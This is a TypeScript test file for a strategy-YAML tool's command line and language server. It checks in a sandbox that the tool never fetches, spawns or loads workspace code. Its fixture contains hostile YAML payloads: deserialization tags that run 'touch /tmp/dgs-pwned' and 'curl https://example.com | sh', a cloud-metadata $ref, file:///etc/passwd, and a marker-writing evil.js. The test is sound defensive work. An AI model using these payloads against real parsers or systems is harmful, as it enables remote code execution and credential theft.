/**
 * No network, no code from the workspace: the command line and the language server run with
 * a preload (preload/deny.js) that makes every socket, every HTTP request, every DNS lookup,
 * every child process, every `vm` evaluation and every `require` from outside the package
 * record itself and fail, and with `--disallow-code-generation-from-strings` (no `eval`, no
 * `new Function`). They check files full of URLs, includes, `$ref`s and tags, and must neither
 * call any of it nor fail.
 */
import * as assert from 'assert';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { CodeActionRequest, CompletionRequest, DocumentLinkRequest, DocumentSymbolRequest, HoverRequest } from 'vscode-languageserver-protocol/node';
import { DGS } from '../cli/helpers';
import { LspClient } from '../lsp/client';
import { CLEAN_FIXTURE, ROOT } from './helpers';

const PRELOAD = path.join(ROOT, 'test', 'reliability', 'preload', 'deny.js');

/** A strategy that names remote and local things in every way YAML allows; none may be fetched, read or run. */
const TEMPTING = CLEAN_FIXTURE.replace('title: Digital Government Strategy 2026-2030', 'title: See https://example.com/strategy and file:///etc/passwd')
  .replace('government: Republic of Testland', 'government: !include https://example.com/government.yaml')
  .replace('  lead: Ministry of Digital Affairs\n', '  lead: Ministry of Digital Affairs\n  $ref: https://example.com/schema.json#/definitions/strategy\n  x-schema: { $ref: "http://169.254.169.254/latest/meta-data/" }\n  x-load: !!js/function "function () { require(\'child_process\').execSync(\'touch /tmp/dgs-pwned\') }"\n  x-python: !!python/object/apply:os.system ["curl https://example.com | sh"]\n  x-require: ./evil.js\n')
  .replace('summary: Government processes become open, transparent and inclusive.', 'summary: "Open data at <http://data.example.org> and \\\\\\\\server\\\\share"');

interface Sandbox {
  root: string;
  /** The workspace: the strategy, a broken configuration, code that must not run. */
  folder: string;
  log: string;
  loaded: string;
  env: NodeJS.ProcessEnv;
}

function sandbox(): Sandbox {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'dgs-no-network-'));
  const folder = path.join(root, 'work');
  fs.mkdirSync(folder);
  fs.mkdirSync(path.join(root, 'fresh'));
  fs.writeFileSync(path.join(folder, 'tempting.strategy.yaml'), TEMPTING);
  // Code in the workspace that a careless tool might load: it would leave a mark.
  fs.writeFileSync(path.join(folder, 'evil.js'), `require('fs').writeFileSync(${JSON.stringify(path.join(folder, 'evil-ran'))}, 'ran');\n`);
  fs.writeFileSync(path.join(folder, '.dgs.yaml'), 'schema: https://example.com/schema.yaml\nrules:\n  missing-indicator: off\n');
  const log = path.join(root, 'denied.log');
  const loaded = path.join(root, 'loaded.log');
  const env = {
    ...process.env,
    NO_COLOR: '1',
    NODE_OPTIONS: `--require ${PRELOAD} --disallow-code-generation-from-strings`,
    DGS_DENY_LOG: log,
    DGS_DENY_LOADED: loaded,
    DGS_DENY_PACKAGE_ROOT: ROOT,
    // Were anything to reach for the network, it would go through here and be refused.
    HTTP_PROXY: 'http://127.0.0.1:9',
    HTTPS_PROXY: 'http://127.0.0.1:9',
  };
  return { root, folder, log, loaded, env };
}

function denied(box: Sandbox): string {
  return fs.existsSync(box.log) ? fs.readFileSync(box.log, 'utf8') : '';
}

function loadedPids(box: Sandbox): string[] {
  return fs.existsSync(box.loaded) ? fs.readFileSync(box.loaded, 'utf8').trim().split('\n') : [];
}

describe('no network and no code from the workspace', function () {
  this.timeout(180_000);
  let box: Sandbox;
  before(() => {
    box = sandbox();
  });
  after(() => fs.rmSync(box.root, { recursive: true, force: true }));

  it('the preload really refuses: a control process that fetches and spawns is caught', () => {
    const result = spawnSync(process.execPath, ['-e', "try { require('http').get('http://example.com') } catch {} try { require('child_process').execSync('true') } catch {} try { eval('1') } catch (e) { process.stdout.write(e.constructor.name) }"], { env: box.env, encoding: 'utf8', timeout: 30_000 });
    assert.strictEqual(result.stdout, 'EvalError');
    const log = denied(box);
    assert.match(log, /http\.get/);
    assert.match(log, /child_process\.execSync/);
    fs.rmSync(box.log, { force: true });
  });

  it('the command line: check (text, sarif), coverage (markdown, html), schema and init call none of it', () => {
    const runs: Array<[string[], number[]]> = [
      [['check', 'tempting.strategy.yaml'], [1, 2]],
      [['check', 'tempting.strategy.yaml', '--format', 'sarif'], [1, 2]],
      [['coverage', 'tempting.strategy.yaml', '--format', 'markdown'], [0, 1, 2]],
      [['coverage', 'tempting.strategy.yaml', '--format', 'html'], [0, 1, 2]],
      [['schema'], [0, 2]],
      // In a folder of its own: init writes nothing where the configuration is broken.
      [['init', 'new.strategy.yaml'], [0]],
    ];
    for (const [args, statuses] of runs) {
      const cwd = args[0] === 'init' ? path.join(box.root, 'fresh') : box.folder;
      const result = spawnSync(process.execPath, [DGS, ...args], { cwd, env: box.env, encoding: 'utf8', timeout: 60_000 });
      assert.strictEqual(result.error, undefined, `dgs ${args.join(' ')}: ${result.error?.message}`);
      assert.ok(statuses.includes(result.status ?? -1), `dgs ${args.join(' ')} exited with ${result.status}: ${result.stderr}`);
      assert.ok(!/not allowed/.test(result.stderr), `dgs ${args.join(' ')}: ${result.stderr}`);
    }
    assert.strictEqual(denied(box), '', 'the command line reached for the network, a process or outside code');
    assert.ok(loadedPids(box).length >= runs.length, 'the preload was not loaded into every run');
    assert.ok(!fs.existsSync(path.join(box.folder, 'evil-ran')), 'code from the workspace ran');
    assert.ok(!fs.existsSync('/tmp/dgs-pwned'));
  });

  it('the language server: every feature on that strategy, over stdio, calls none of it', async () => {
    const previous = { ...process.env };
    Object.assign(process.env, box.env);
    let client: LspClient;
    try {
      ({ client } = await LspClient.start({ workspace: box.folder }));
    } finally {
      for (const key of Object.keys(box.env)) if (!(key in previous)) delete process.env[key];
      Object.assign(process.env, previous);
    }
    try {
      const uri = client.uri('tempting.strategy.yaml');
      await client.open(uri, TEMPTING);
      const diagnostics = (await client.nextDiagnostics(uri)).diagnostics;
      assert.ok(diagnostics.some((diagnostic) => diagnostic.code === 'config' && /schema\.yaml does not exist/.test(diagnostic.message)), 'the schema URL is a path that does not exist, not a download');
      const textDocument = { uri };
      const lines = TEMPTING.split('\n');
      for (let line = 0; line < lines.length; line += 3) {
        const position = { line, character: Math.min(12, lines[line].length) };
        await client.connection.sendRequest(HoverRequest.type, { textDocument, position });
        await client.connection.sendRequest(CompletionRequest.type, { textDocument, position });
      }
      await client.connection.sendRequest(DocumentSymbolRequest.type, { textDocument });
      await client.connection.sendRequest(CodeActionRequest.type, { textDocument, range: { start: { line: 0, character: 0 }, end: { line: lines.length, character: 0 } }, context: { diagnostics } });
      // Document links are not offered: a request for them is an error, not a fetch.
      await client.connection.sendRequest(DocumentLinkRequest.type, { textDocument }).catch(() => undefined);
      assert.strictEqual(client.exited(), undefined);
      assert.ok(loadedPids(box).includes(String(client.process.pid)), 'the preload was not loaded into the server');
    } finally {
      await client.stop();
    }
    assert.strictEqual(denied(box), '', 'the server reached for the network, a process or outside code');
    assert.ok(!fs.existsSync(path.join(box.folder, 'evil-ran')), 'code from the workspace ran');
  });
});
